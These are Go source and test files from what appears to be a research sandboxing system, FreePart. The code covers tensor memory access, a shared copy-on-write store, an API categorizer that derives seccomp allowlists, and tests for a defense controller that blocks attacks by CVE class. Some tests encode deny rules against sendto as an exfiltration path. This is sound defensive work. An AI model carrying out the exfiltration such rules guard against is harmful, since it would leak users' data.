// Size returns the payload size in bytes.
func (t *Tensor) Size() int { return t.Len() * 8 }

// Header encodes the shape.
func (t *Tensor) Header() []byte {
	b := make([]byte, 0, 4+4*len(t.shape))
	b = binary.BigEndian.AppendUint32(b, uint32(len(t.shape)))
	for _, d := range t.shape {
		b = binary.BigEndian.AppendUint32(b, uint32(d))
	}
	return b
}

// TensorShapeFromHeader decodes a tensor header.
func TensorShapeFromHeader(h []byte) ([]int, error) {
	if len(h) < 4 {
		return nil, fmt.Errorf("object: short tensor header")
	}
	nd := int(binary.BigEndian.Uint32(h[0:4]))
	if len(h) != 4+4*nd {
		return nil, fmt.Errorf("object: tensor header length %d for %d dims", len(h), nd)
	}
	shape := make([]int, nd)
	for i := 0; i < nd; i++ {
		shape[i] = int(binary.BigEndian.Uint32(h[4+4*i : 8+4*i]))
	}
	return shape, nil
}

// flatIndex converts multi-dim indices to a flat offset.
func (t *Tensor) flatIndex(idx []int) (int, error) {
	if len(idx) != len(t.shape) {
		return 0, fmt.Errorf("object: %d indices for %d-dim tensor", len(idx), len(t.shape))
	}
	flat := 0
	for i, x := range idx {
		if x < 0 || x >= t.shape[i] {
			return 0, fmt.Errorf("object: index %d out of dim %d (size %d)", x, i, t.shape[i])
		}
		flat = flat*t.shape[i] + x
	}
	return flat, nil
}

// At reads an element through the MMU.
func (t *Tensor) At(idx ...int) (float64, error) {
	flat, err := t.flatIndex(idx)
	if err != nil {
		return 0, err
	}
	return t.AtFlat(flat)
}

// AtFlat reads the i-th element in row-major order.
func (t *Tensor) AtFlat(i int) (float64, error) {
	if i < 0 || i >= t.Len() {
		return 0, fmt.Errorf("object: flat index %d out of %d", i, t.Len())
	}
	b, err := t.space.Load(t.region.Base+mem.Addr(i*8), 8)
	if err != nil {
		return 0, err
	}
	return math.Float64frombits(binary.BigEndian.Uint64(b)), nil
}

// Set writes an element through the MMU.
func (t *Tensor) Set(v float64, idx ...int) error {
	flat, err := t.flatIndex(idx)
	if err != nil {
		return err
	}
	return t.SetFlat(flat, v)
}

// SetFlat writes the i-th element in row-major order.
func (t *Tensor) SetFlat(i int, v float64) error {
	if i < 0 || i >= t.Len() {
		return fmt.Errorf("object: flat index %d out of %d", i, t.Len())
	}
	var b [8]byte
	binary.BigEndian.PutUint64(b[:], math.Float64bits(v))
	return t.space.Store(t.region.Base+mem.Addr(i*8), b[:])
}

// Values bulk-loads every element (one permission-checked read of the
// whole payload instead of per-element loads).
func (t *Tensor) Values() ([]float64, error) {
	raw, err := PayloadBytes(t)
	if err != nil {
		return nil, err
	}
	vals := make([]float64, t.Len())
	for i := range vals {
		vals[i] = math.Float64frombits(binary.BigEndian.Uint64(raw[i*8:]))
	}
	return vals, nil
}

// SetValues bulk-stores every element; len(vals) must equal t.Len().
func (t *Tensor) SetValues(vals []float64) error {
	if len(vals) != t.Len() {
		return fmt.Errorf("object: SetValues got %d values for %d elements", len(vals), t.Len())
	}
	raw := make([]byte, len(vals)*8)
	for i, v := range vals {
		binary.BigEndian.PutUint64(raw[i*8:], math.Float64bits(v))
	}
	return t.space.Store(t.region.Base, raw)
}

// CloneInto deep-copies the tensor into dst.
func (t *Tensor) CloneInto(dst *mem.AddressSpace) (*Tensor, error) {
	data, err := PayloadBytes(t)
	if err != nil {
		return nil, err
	}
	nt, err := NewTensor(dst, t.shape...)
	if err != nil {
		return nil, err
	}
	if err := dst.Store(nt.region.Base, data); err != nil {
		return nil, err
	}
	return nt, nil
}

// String describes the tensor.
func (t *Tensor) String() string {
	return fmt.Sprintf("Tensor(%v @%#x)", t.shape, uint64(t.region.Base))
}
