package object

import (
	"fmt"
	"sync"

	"freepart.dev/freepart/internal/mem"
)

// Store is a copy-on-write read-only object store shared across runtime
// shards. Immutable artifacts — model weights, classifier files, grading
// templates — are built exactly once and every shard reads the same backing
// bytes instead of re-materializing its own copy. A shard that needs the
// artifact inside its own simulated address space materializes it lazily,
// memoized per space; a shard that needs to mutate takes a private copy
// (the copy-on-write escape), leaving the canonical bytes untouched.
//
// Safe for concurrent use: builds are single-flight, so two shards racing
// to intern the same key run the builder once and share the result.
type Store struct {
	mu      sync.Mutex
	entries map[string]*entry

	builds      uint64
	hits        uint64
	sharedBytes uint64 // payload bytes served from cache instead of rebuilt
}

// entry pairs an immutable with the once-guard that builds it, so Intern
// holds no store-wide lock while a builder runs.
type entry struct {
	once sync.Once
	im   *Immutable
	err  error
}

// StoreStats counts store activity.
type StoreStats struct {
	// Builds is how many artifacts were actually constructed.
	Builds uint64
	// Hits is how many Intern calls were answered from the store.
	Hits uint64
	// SharedBytes is the payload volume the store served without
	// rebuilding — the memory and virtual time the COW design saves.
	SharedBytes uint64
}

// NewStore creates an empty store.
func NewStore() *Store {
	return &Store{entries: make(map[string]*entry)}
}

// Intern returns the immutable registered under name, building it with
// build on first use. Concurrent interns of the same name run build exactly
// once; every caller shares the same backing payload.
func (s *Store) Intern(name string, kind Kind, header []byte, build func() ([]byte, error)) (*Immutable, error) {
	s.mu.Lock()
	e, ok := s.entries[name]
	if !ok {
		e = &entry{}
		s.entries[name] = e
	}
	s.mu.Unlock()

	built := false
	e.once.Do(func() {
		built = true
		payload, err := build()
		if err != nil {
			e.err = err
			return
		}
		if len(payload) == 0 {
			e.err = fmt.Errorf("object: store artifact %q built empty", name)
			return
		}
		e.im = &Immutable{
			name:    name,
			kind:    kind,
			header:  append([]byte(nil), header...),
			payload: payload,
			mats:    make(map[mem.SpaceID]Object),
		}
	})
	if e.err != nil {
		return nil, e.err
	}

	s.mu.Lock()
	if built {
		s.builds++
	} else {
		s.hits++
		s.sharedBytes += uint64(len(e.im.payload))
	}
	s.mu.Unlock()
	return e.im, nil
}

// Get returns the immutable under name if it has been interned (and its
// build succeeded).
func (s *Store) Get(name string) (*Immutable, bool) {
	s.mu.Lock()
	e, ok := s.entries[name]
	s.mu.Unlock()
	if !ok || e.im == nil {
		return nil, false
	}
	return e.im, true
}

// Len returns the number of successfully interned artifacts.
func (s *Store) Len() int {
	s.mu.Lock()
	defer s.mu.Unlock()
	n := 0
	for _, e := range s.entries {
		if e.im != nil {
			n++
		}
	}
	return n
}

// Stats returns a snapshot of the store counters.
func (s *Store) Stats() StoreStats {
	s.mu.Lock()
	defer s.mu.Unlock()
	return StoreStats{Builds: s.builds, Hits: s.hits, SharedBytes: s.sharedBytes}
}

// Immutable is one read-only artifact in a Store. Its payload is shared by
// every reader; mutation goes through MutableCopy.
type Immutable struct {
	name    string
	kind    Kind
	header  []byte
	payload []byte

	mu   sync.Mutex
	mats map[mem.SpaceID]Object // per-address-space materializations
}

// Name returns the store key.
func (im *Immutable) Name() string { return im.name }

// Kind returns the object kind the artifact rebuilds as.
func (im *Immutable) Kind() Kind { return im.kind }

// Size returns the payload size in bytes.
func (im *Immutable) Size() int { return len(im.payload) }

// Bytes returns the shared backing payload. Callers must treat it as
// read-only — this is the zero-copy read path of the COW contract. Use
// MutableCopy to obtain writable bytes.
func (im *Immutable) Bytes() []byte { return im.payload }

// MutableCopy returns a private copy of the payload — the copy-on-write
// escape hatch for callers that need to mutate the artifact. The shared
// bytes are never affected.
func (im *Immutable) MutableCopy() []byte {
	out := make([]byte, len(im.payload))
	copy(out, im.payload)
	return out
}

// Materialize rebuilds the artifact as an Object inside the given address
// space, memoized per space: a shard that materializes the same artifact
// twice gets the same object back, paying allocation and copy cost once.
func (im *Immutable) Materialize(space *mem.AddressSpace) (Object, error) {
	im.mu.Lock()
	if o, ok := im.mats[space.ID()]; ok {
		im.mu.Unlock()
		return o, nil
	}
	im.mu.Unlock()

	o, err := Rebuild(space, Ref{Kind: im.kind, Header: im.header}, im.payload)
	if err != nil {
		return nil, err
	}
	im.mu.Lock()
	defer im.mu.Unlock()
	// A racing materialization into the same space wins by first insert,
	// keeping the memoized object stable.
	if prior, ok := im.mats[space.ID()]; ok {
		return prior, nil
	}
	im.mats[space.ID()] = o
	return o, nil
}

// Materialized reports how many distinct address spaces hold a copy.
func (im *Immutable) Materialized() int {
	im.mu.Lock()
	defer im.mu.Unlock()
	return len(im.mats)
}
