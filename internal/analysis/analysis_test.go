package analysis_test

import (
	"testing"

	"freepart.dev/freepart/internal/analysis"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/framework/all"
	"freepart.dev/freepart/internal/kernel"
	"freepart.dev/freepart/internal/trace"
)

// hybrid runs the full dynamic suite + analyzer once per test binary.
func hybrid(t *testing.T) (*analysis.Analyzer, *analysis.Categorization) {
	t.Helper()
	k := kernel.New()
	reg := all.Registry()
	runner := trace.NewRunner(reg)
	trace.RunSuite(k, runner)
	a := analysis.New(reg, runner.Recorder)
	return a, a.Categorize()
}

func TestStaticOnlyCategorization(t *testing.T) {
	reg := all.Registry()
	a := analysis.New(reg, nil)
	c := a.Categorize()
	if c.TypeOf("cv.imread") != framework.TypeLoading {
		t.Fatalf("imread = %v", c.TypeOf("cv.imread"))
	}
	if c.TypeOf("cv.GaussianBlur") != framework.TypeProcessing {
		t.Fatalf("blur = %v", c.TypeOf("cv.GaussianBlur"))
	}
	if c.TypeOf("cv.imshow") != framework.TypeVisualizing {
		t.Fatalf("imshow = %v", c.TypeOf("cv.imshow"))
	}
	if c.TypeOf("cv.imwrite") != framework.TypeStoring {
		t.Fatalf("imwrite = %v", c.TypeOf("cv.imwrite"))
	}
}

func TestHybridAccuracy(t *testing.T) {
	a, c := hybrid(t)
	acc, wrong := a.Accuracy(c)
	if acc < 0.97 {
		t.Fatalf("hybrid accuracy = %.3f, mismatches: %v", acc, wrong)
	}
}

func TestMemoryCopyViaFileReduction(t *testing.T) {
	a, c := hybrid(t)
	_ = a
	// get_file downloads from the network and stages through a file; the
	// reduction must fire and the API must classify as data loading
	// (§4.2.1's worked example).
	found := false
	for _, name := range c.Reduced {
		if name == "tf.keras.utils.get_file" {
			found = true
		}
	}
	if !found {
		t.Fatalf("reduction did not fire for get_file: %v", c.Reduced)
	}
	if got := c.TypeOf("tf.keras.utils.get_file"); got != framework.TypeLoading {
		t.Fatalf("get_file = %v, want DL", got)
	}
	if got := c.TypeOf("torch.hub.load"); got != framework.TypeLoading {
		t.Fatalf("hub.load = %v, want DL", got)
	}
}

func TestDynamicOnlyAPICaughtByTrace(t *testing.T) {
	// An API whose static ops are hidden (indirect calls) categorizes as
	// processing statically but correctly once traces arrive.
	reg := framework.NewRegistry()
	reg.Register(&framework.API{
		Name: "x.hiddenLoad", Framework: "x", TrueType: framework.TypeLoading,
		DynamicOnly: true,
		StaticOps:   []framework.Op{framework.WriteOp(framework.StorageMem, framework.StorageFile)},
		Impl: func(ctx *framework.Ctx, args []framework.Value) ([]framework.Value, error) {
			if _, err := ctx.FileRead("/f"); err != nil {
				return nil, err
			}
			return nil, nil
		},
	})
	staticOnly := analysis.New(reg, nil).Categorize()
	if staticOnly.TypeOf("x.hiddenLoad") != framework.TypeProcessing {
		t.Fatalf("static-only should misclassify, got %v", staticOnly.TypeOf("x.hiddenLoad"))
	}

	k := kernel.New()
	k.FS.WriteFile("/f", []byte("data"))
	runner := trace.NewRunner(reg)
	if _, err := runner.RunAPI(k, reg.MustGet("x.hiddenLoad"), func(ctx *framework.Ctx) ([]framework.Value, error) {
		return nil, nil
	}); err != nil {
		t.Fatal(err)
	}
	a := analysis.New(reg, runner.Recorder)
	c := a.Categorize()
	if c.TypeOf("x.hiddenLoad") != framework.TypeLoading {
		t.Fatalf("hybrid should recover the load type, got %v", c.TypeOf("x.hiddenLoad"))
	}
}

func TestDetectNeutral(t *testing.T) {
	a, c := hybrid(t)
	// cvtColor used next to loading in one app and next to visualizing in
	// another → neutral.
	seqs := [][]string{
		{"cv.imread", "cv.cvtColor", "cv.GaussianBlur"},
		{"cv.GaussianBlur", "cv.cvtColor", "cv.imshow"},
	}
	a.DetectNeutral(c, seqs)
	if !c.Neutral["cv.cvtColor"] {
		t.Fatal("cvtColor should be detected neutral")
	}
	// GaussianBlur also borders two types here but is only ever adjacent
	// to processing-type neighbours in the sequences' classification...
	// verify imread (a loader) is never neutral.
	if c.Neutral["cv.imread"] {
		t.Fatal("imread must not be neutral")
	}
}

func TestDetectNeutralRequiresTwoContexts(t *testing.T) {
	a, c := hybrid(t)
	seqs := [][]string{{"cv.imread", "cv.cvtColor"}} // only one neighbor type
	a.DetectNeutral(c, seqs)
	if c.Neutral["cv.cvtColor"] {
		t.Fatal("one context should not make an API neutral")
	}
}

func TestStatefulReport(t *testing.T) {
	a, _ := hybrid(t)
	rep := a.Stateful()
	has := func(list []string, name string) bool {
		for _, n := range list {
			if n == name {
				return true
			}
		}
		return false
	}
	if !has(rep.Stateful, "cv.VideoCapture.read") {
		t.Fatal("VideoCapture.read should be stateful")
	}
	if !has(rep.Shared, "tf.estimator.DNNClassifier.train") {
		t.Fatal("estimator train should be shared-state")
	}
	if has(rep.Shared, "cv.VideoCapture.read") {
		t.Fatal("VideoCapture.read state is not shared")
	}
}

func TestDeriveSyscallPolicy(t *testing.T) {
	a, c := hybrid(t)
	policies := a.DeriveSyscallPolicy(c, []string{
		"cv.imread", "cv.VideoCapture.read", "cv.GaussianBlur", "cv.imshow", "cv.imwrite",
	})
	dl := policies[framework.TypeLoading]
	hasCall := func(list []kernel.Sysno, s kernel.Sysno) bool {
		for _, c := range list {
			if c == s {
				return true
			}
		}
		return false
	}
	// Union of imread + VideoCapture.read needs (Fig. 12-(b) shape).
	for _, want := range []kernel.Sysno{kernel.SysOpenat, kernel.SysRead, kernel.SysIoctl, kernel.SysSelect} {
		if !hasCall(dl.Allowed, want) {
			t.Errorf("loading policy missing %s: %v", want, dl.Allowed)
		}
	}
	// Loading must NOT allow sendto (exfiltration path, §5.3).
	if hasCall(dl.Allowed, kernel.SysSendto) {
		t.Error("loading policy must not allow sendto")
	}
	dp := policies[framework.TypeProcessing]
	if hasCall(dp.Allowed, kernel.SysOpenat) {
		t.Errorf("processing policy should not need openat for GaussianBlur: %v", dp.Allowed)
	}
	// ioctl fd-scoping flows through.
	if labels := dl.FDLabels[kernel.SysIoctl]; len(labels) == 0 || labels[0] != "/dev/camera0" {
		t.Errorf("ioctl labels = %v", dl.FDLabels)
	}
	// imshow's connect is init-only.
	viz := policies[framework.TypeVisualizing]
	if !hasCall(viz.InitOnly, kernel.SysConnect) {
		t.Errorf("visualizing init-only should include connect: %v", viz.InitOnly)
	}
	if hasCall(viz.Allowed, kernel.SysConnect) {
		t.Error("connect must not be in the steady-state allowlist")
	}
}

func TestPolicyApplyEnforces(t *testing.T) {
	a, c := hybrid(t)
	policies := a.DeriveSyscallPolicy(c, []string{"cv.GaussianBlur"})
	k := kernel.New()
	p := k.Spawn("dp-agent")
	if err := policies[framework.TypeProcessing].Apply(p.Filter(), kernel.ActionKill); err != nil {
		t.Fatal(err)
	}
	if err := k.Syscall(p, kernel.SysBrk, ""); err != nil {
		t.Fatalf("brk should be allowed: %v", err)
	}
	if err := k.Syscall(p, kernel.SysSendto, ""); err == nil {
		t.Fatal("sendto should be denied")
	}
	if p.Alive() {
		t.Fatal("violator should be killed")
	}
}

func TestNeutralAPISyscallsInAllAgents(t *testing.T) {
	a, c := hybrid(t)
	c.Neutral["cv.cvtColor"] = true
	policies := a.DeriveSyscallPolicy(c, []string{"cv.cvtColor", "cv.imread"})
	for _, ty := range framework.ConcreteTypes() {
		found := false
		for _, s := range policies[ty].Allowed {
			if s == kernel.SysBrk {
				found = true
			}
		}
		if !found {
			t.Errorf("agent %s should allow neutral API's brk", ty)
		}
	}
}

func TestUsageByType(t *testing.T) {
	_, c := hybrid(t)
	calls := []string{
		"cv.imread", "cv.imread", "cv.GaussianBlur", "cv.erode",
		"cv.GaussianBlur", "cv.imshow", "cv.imwrite",
	}
	usage := analysis.UsageByType(c, calls)
	if u := usage[framework.TypeLoading]; u.Unique != 1 || u.Total != 2 {
		t.Fatalf("loading usage = %+v", u)
	}
	if u := usage[framework.TypeProcessing]; u.Unique != 2 || u.Total != 3 {
		t.Fatalf("processing usage = %+v", u)
	}
	if u := usage[framework.TypeVisualizing]; u.Unique != 1 || u.Total != 1 {
		t.Fatalf("visualizing usage = %+v", u)
	}
	if u := usage[framework.TypeStoring]; u.Unique != 1 || u.Total != 1 {
		t.Fatalf("storing usage = %+v", u)
	}
}

func TestAccuracyEmptyRegistry(t *testing.T) {
	a := analysis.New(framework.NewRegistry(), nil)
	acc, wrong := a.Accuracy(a.Categorize())
	if acc != 1 || wrong != nil {
		t.Fatal("empty registry should be trivially accurate")
	}
}
