package analysis

import (
	"sort"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/kernel"
)

// AgentPolicy is the derived seccomp policy for one agent type: the union
// of syscalls required by every API assigned to it (Fig. 12-(b)), fd-scope
// restrictions for the dangerous calls, and the initialization-only set
// that is permitted before lockdown (§4.4.1).
type AgentPolicy struct {
	Type     framework.APIType
	Allowed  []kernel.Sysno
	FDLabels map[kernel.Sysno][]string
	InitOnly []kernel.Sysno
}

// DeriveSyscallPolicy computes the per-agent-type allowlists for the APIs
// an application actually uses (apiNames); pass nil to cover the whole
// registry. Neutral APIs contribute to every agent type they may run in.
func (a *Analyzer) DeriveSyscallPolicy(c *Categorization, apiNames []string) map[framework.APIType]*AgentPolicy {
	policies := make(map[framework.APIType]*AgentPolicy)
	for _, t := range framework.ConcreteTypes() {
		policies[t] = &AgentPolicy{Type: t, FDLabels: make(map[kernel.Sysno][]string)}
	}

	apis := a.Registry.All()
	if apiNames != nil {
		apis = apis[:0]
		for _, name := range apiNames {
			if api, ok := a.Registry.Get(name); ok {
				apis = append(apis, api)
			}
		}
	}

	add := func(p *AgentPolicy, api *framework.API) {
		p.Allowed = append(p.Allowed, api.Syscalls...)
		p.InitOnly = append(p.InitOnly, api.InitSyscalls...)
		for call, labels := range api.FDLabels {
			p.FDLabels[call] = append(p.FDLabels[call], labels...)
		}
	}

	for _, api := range apis {
		if c.Neutral[api.Name] {
			// A neutral API may execute in any agent; every agent must
			// therefore allow its (memory-only) syscalls.
			for _, p := range policies {
				add(p, api)
			}
			continue
		}
		t := c.TypeOf(api.Name)
		if p, ok := policies[t]; ok {
			add(p, api)
		}
	}

	for _, p := range policies {
		p.Allowed = dedupSyscalls(p.Allowed)
		p.InitOnly = dedupSyscalls(p.InitOnly)
		for call := range p.FDLabels {
			p.FDLabels[call] = dedupStrings(p.FDLabels[call])
		}
	}
	return policies
}

// Apply configures a process filter from the policy: allow the union,
// restrict fd-scoped calls to their labels, then install with the given
// action. Init-only syscalls are NOT allowed — callers must run each
// API's first execution before calling Apply (§4.4.1: "FreePart first
// executes all the framework APIs and then restricts them afterwards").
func (p *AgentPolicy) Apply(f *kernel.Filter, action kernel.FilterAction) error {
	if err := f.Allow(p.Allowed...); err != nil {
		return err
	}
	for call, labels := range p.FDLabels {
		if err := f.RestrictFD(call, labels...); err != nil {
			return err
		}
	}
	f.Install(action)
	return nil
}

// dedupSyscalls sorts and deduplicates.
func dedupSyscalls(in []kernel.Sysno) []kernel.Sysno {
	seen := make(map[kernel.Sysno]bool, len(in))
	out := in[:0]
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	sort.Slice(out, func(i, j int) bool { return out[i] < out[j] })
	return out
}

// dedupStrings sorts and deduplicates.
func dedupStrings(in []string) []string {
	seen := make(map[string]bool, len(in))
	out := in[:0]
	for _, s := range in {
		if !seen[s] {
			seen[s] = true
			out = append(out, s)
		}
	}
	sort.Strings(out)
	return out
}

// UsageCount is one application's API usage for one type (a Table 6 cell
// pair: unique APIs and total call instances).
type UsageCount struct {
	Unique int
	Total  int
}

// UsageByType summarizes a call sequence per API type (Table 6 rows).
func UsageByType(c *Categorization, calls []string) map[framework.APIType]UsageCount {
	uniq := make(map[framework.APIType]map[string]bool)
	out := make(map[framework.APIType]UsageCount)
	for _, name := range calls {
		t := c.TypeOf(name)
		if c.Neutral[name] {
			t = framework.TypeProcessing // neutral APIs tabulate with DP
		}
		if uniq[t] == nil {
			uniq[t] = make(map[string]bool)
		}
		uniq[t][name] = true
		uc := out[t]
		uc.Total++
		uc.Unique = len(uniq[t])
		out[t] = uc
	}
	return out
}
