// Package analysis implements FreePart's offline hybrid analyzer (§4.2):
// it combines each API's statically visible data-flow operations with the
// dynamic trace observations, applies the memory-copy-via-file reduction,
// categorizes every API into the four types (plus type-neutral detection
// from call-sequence context), derives the per-agent syscall allowlists
// (§4.4.1), and identifies stateful APIs (§A.2.4).
package analysis

import (
	"fmt"
	"sort"

	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/trace"
)

// Categorization is the analyzer's output for one registry.
type Categorization struct {
	// Types maps API name to its inferred type.
	Types map[string]framework.APIType
	// Neutral marks APIs detected as type-neutral (their home partition is
	// decided at runtime by the calling context).
	Neutral map[string]bool
	// Reduced lists APIs where the memory-copy-via-file reduction fired.
	Reduced []string
}

// TypeOf returns the inferred type, falling back to processing for unknown
// APIs (the safe default: pure memory work).
func (c *Categorization) TypeOf(api string) framework.APIType {
	if t, ok := c.Types[api]; ok {
		return t
	}
	return framework.TypeProcessing
}

// Analyzer runs the hybrid categorization over a registry.
type Analyzer struct {
	Registry *framework.Registry
	// Recorder supplies dynamic observations; nil = static-only analysis.
	Recorder *trace.Recorder
}

// New creates an analyzer.
func New(reg *framework.Registry, rec *trace.Recorder) *Analyzer {
	return &Analyzer{Registry: reg, Recorder: rec}
}

// opsFor merges static and dynamic operations for an API. APIs flagged
// DynamicOnly contribute no static ops (their flows hide behind indirect
// calls), which is exactly the gap the dynamic half closes.
func (a *Analyzer) opsFor(api *framework.API) []framework.Op {
	var ops []framework.Op
	if !api.DynamicOnly {
		ops = append(ops, api.StaticOps...)
	}
	if a.Recorder != nil {
		for _, op := range a.Recorder.Ops(api.Name) {
			dup := false
			for _, o := range ops {
				if o == op {
					dup = true
					break
				}
			}
			if !dup {
				ops = append(ops, op)
			}
		}
	}
	return ops
}

// reduceFileCopies applies the §4.2.1 reduction: when an API both writes
// memory to a file and reads that file back into memory, the file is a
// staging buffer, not true storage I/O — drop the FILE pair so the API's
// remaining flows decide its type. Returns the reduced ops and whether the
// reduction fired.
func reduceFileCopies(ops []framework.Op) ([]framework.Op, bool) {
	writesFile, readsFile := false, false
	var other []framework.Op
	for _, op := range ops {
		switch {
		case op.DstValid && op.Dst == framework.StorageFile && op.Src == framework.StorageMem:
			writesFile = true
		case op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageFile:
			readsFile = true
		default:
			other = append(other, op)
		}
	}
	if writesFile && readsFile {
		// The staged round trip collapses to a memory-to-memory move.
		return append(other, framework.WriteOp(framework.StorageMem, framework.StorageMem)), true
	}
	return ops, false
}

// classify applies the Fig. 9 pattern rules to a reduced op set.
func classify(ops []framework.Op) framework.APIType {
	var hasGUI, hasLoad, hasStore, hasMem bool
	for _, op := range ops {
		switch {
		case !op.DstValid && op.Src == framework.StorageGUI:
			hasGUI = true
		case op.DstValid && op.Dst == framework.StorageGUI:
			hasGUI = true
		case op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageGUI:
			hasGUI = true
		case op.DstValid && op.Dst == framework.StorageMem && (op.Src == framework.StorageFile || op.Src == framework.StorageDev):
			hasLoad = true
		case op.DstValid && (op.Dst == framework.StorageFile || op.Dst == framework.StorageDev) && op.Src == framework.StorageMem:
			hasStore = true
		case op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageMem:
			hasMem = true
		}
	}
	switch {
	case hasGUI:
		return framework.TypeVisualizing
	case hasLoad:
		return framework.TypeLoading
	case hasStore:
		return framework.TypeStoring
	case hasMem:
		return framework.TypeProcessing
	default:
		// No observed flows at all: treat as processing (pure compute).
		return framework.TypeProcessing
	}
}

// Categorize runs classification over every API in the registry.
func (a *Analyzer) Categorize() *Categorization {
	out := &Categorization{
		Types:   make(map[string]framework.APIType),
		Neutral: make(map[string]bool),
	}
	for _, api := range a.Registry.All() {
		ops := a.opsFor(api)
		reduced, fired := reduceFileCopies(ops)
		if fired {
			out.Reduced = append(out.Reduced, api.Name)
			// A staging file implies the API's real input is whatever else
			// it read; if that was a device/network, it is a loader.
			for _, op := range ops {
				if op.DstValid && op.Dst == framework.StorageMem && op.Src == framework.StorageDev {
					reduced = append(reduced, op)
				}
			}
		}
		out.Types[api.Name] = classify(reduced)
	}
	sort.Strings(out.Reduced)
	return out
}

// Accuracy compares the categorization against the registry's ground
// truth, returning the fraction correct and the mismatched API names.
func (a *Analyzer) Accuracy(c *Categorization) (float64, []string) {
	total, correct := 0, 0
	var wrong []string
	for _, api := range a.Registry.All() {
		if api.TrueType == framework.TypeUnknown {
			continue
		}
		total++
		if c.TypeOf(api.Name) == api.TrueType {
			correct++
		} else {
			wrong = append(wrong, fmt.Sprintf("%s: got %s want %s", api.Name, c.TypeOf(api.Name), api.TrueType))
		}
	}
	if total == 0 {
		return 1, nil
	}
	return float64(correct) / float64(total), wrong
}

// DetectNeutral marks memory-only APIs that appear adjacent to two or more
// distinct API types in the observed call sequences (§4.2.2: "their types
// are determined by the types of other APIs used together").
func (a *Analyzer) DetectNeutral(c *Categorization, sequences [][]string) {
	neighbors := make(map[string]map[framework.APIType]bool)
	for _, seq := range sequences {
		for i, name := range seq {
			if c.TypeOf(name) != framework.TypeProcessing {
				continue
			}
			add := func(j int) {
				if j < 0 || j >= len(seq) || j == i {
					return
				}
				t := c.TypeOf(seq[j])
				if t == framework.TypeProcessing {
					return
				}
				if neighbors[name] == nil {
					neighbors[name] = make(map[framework.APIType]bool)
				}
				neighbors[name][t] = true
			}
			add(i - 1)
			add(i + 1)
		}
	}
	for name, types := range neighbors {
		api, ok := a.Registry.Get(name)
		if !ok {
			continue
		}
		// A neutral API is pure memory-to-memory; anything touching files,
		// devices, or the GUI has a fixed home.
		pure := true
		for _, op := range a.opsFor(api) {
			if op.Src != framework.StorageMem || !op.DstValid || op.Dst != framework.StorageMem {
				pure = false
				break
			}
		}
		if pure && len(types) >= 2 {
			c.Neutral[name] = true
		}
	}
}

// StatefulReport lists stateful APIs and the subset whose state is shared
// across calls/processes (§A.2.4, §A.6).
type StatefulReport struct {
	Stateful []string
	Shared   []string
}

// Stateful derives the stateful-API report from the registry metadata —
// the paper identifies these by analyzing which APIs write state reachable
// by later calls; our frameworks declare the same property at definition.
func (a *Analyzer) Stateful() StatefulReport {
	var rep StatefulReport
	for _, api := range a.Registry.All() {
		if api.Stateful {
			rep.Stateful = append(rep.Stateful, api.Name)
			if api.SharedState {
				rep.Shared = append(rep.Shared, api.Name)
			}
		}
	}
	return rep
}
