package defense

import (
	"errors"
	"strings"
	"testing"
	"time"

	"freepart.dev/freepart/internal/attack"
	"freepart.dev/freepart/internal/core"
	"freepart.dev/freepart/internal/framework"
	"freepart.dev/freepart/internal/isolation"
	"freepart.dev/freepart/internal/vclock"
)

const cleanW = vclock.Duration(100 * time.Microsecond)

// lattice builds a pool-less controller (nil executor: Tick re-binds
// nothing) with a 100µs clean window over the erim floor.
func lattice() *Controller {
	return New(nil, Params{Floor: isolation.ERIM(), CleanWindow: cleanW})
}

// dosSighting is a DoS sighting on the loading type — the class whose
// required tier (process) exceeds the erim floor (domain), so it always
// escalates.
func dosSighting(tenant int) sighting {
	return sighting{
		shard: 0, cve: "CVE-2017-14136", class: attack.ClassDoS,
		api: framework.TypeLoading, tier: isolation.TierDomain,
		signal: "agent-crash", tenant: tenant, session: -1,
	}
}

func TestDefaults(t *testing.T) {
	c := New(nil, Params{})
	if !c.Policy().Equal(isolation.ERIM()) {
		t.Fatal("default floor must be erim")
	}
	if c.p.CleanWindow <= 0 || c.p.QuarantineWindow != c.p.CleanWindow {
		t.Fatalf("defaulted windows broken: clean %v quarantine %v", c.p.CleanWindow, c.p.QuarantineWindow)
	}
	if c.p.HysteresisFactor < 2 {
		t.Fatalf("hysteresis factor %d, want >= 2", c.p.HysteresisFactor)
	}
	if c.Policy().Name != "adaptive" {
		t.Fatalf("adaptive policy named %q", c.Policy().Name)
	}
}

func TestEscalationLattice(t *testing.T) {
	c := lattice()
	c.note(dosSighting(0))
	c.Tick(0)
	if got := c.Policy().TierOf(framework.TypeLoading); got != isolation.TierProcess {
		t.Fatalf("loading tier after DoS sighting = %v, want process", got)
	}
	for _, ty := range []framework.APIType{framework.TypeProcessing, framework.TypeVisualizing, framework.TypeStoring} {
		if got := c.Policy().TierOf(ty); got != isolation.TierDomain {
			t.Fatalf("unsighted type %s moved to %v", ty.Long(), got)
		}
	}
	st := c.Stats()
	if st.Sightings != 1 || st.Escalations != 1 {
		t.Fatalf("stats = %+v, want 1 sighting 1 escalation", st)
	}
	// The floor is never mutated by escalation.
	if !c.Floor().Equal(isolation.ERIM()) {
		t.Fatal("escalation mutated the floor")
	}
}

func TestScreenArmsPerClass(t *testing.T) {
	c := lattice()
	if err := c.Screen("CVE-2017-14136"); err != nil {
		t.Fatalf("screen before any sighting = %v, want pass", err)
	}
	c.note(dosSighting(0))
	c.Tick(0)
	// Any CVE of the sighted class is now refused — including ones the
	// controller never saw directly.
	for _, cve := range []string{"CVE-2017-14136", "CVE-2018-5269"} {
		if err := c.Screen(cve); !errors.Is(err, core.ErrAttackBlocked) {
			t.Fatalf("screen %s = %v, want ErrAttackBlocked", cve, err)
		}
	}
	// Other classes still pass, as do ids outside the evaluation set.
	if err := c.Screen("CVE-2017-17760"); err != nil {
		t.Fatalf("screen of unsighted RCE class = %v, want pass", err)
	}
	if err := c.Screen("CVE-0000-0000"); err != nil {
		t.Fatalf("screen of unknown id = %v, want pass", err)
	}
	if got := c.Stats().ScreenHits; got != 2 {
		t.Fatalf("screen hits = %d, want 2", got)
	}
	// The buffered hits land in the decision log at the next Tick.
	c.Tick(1)
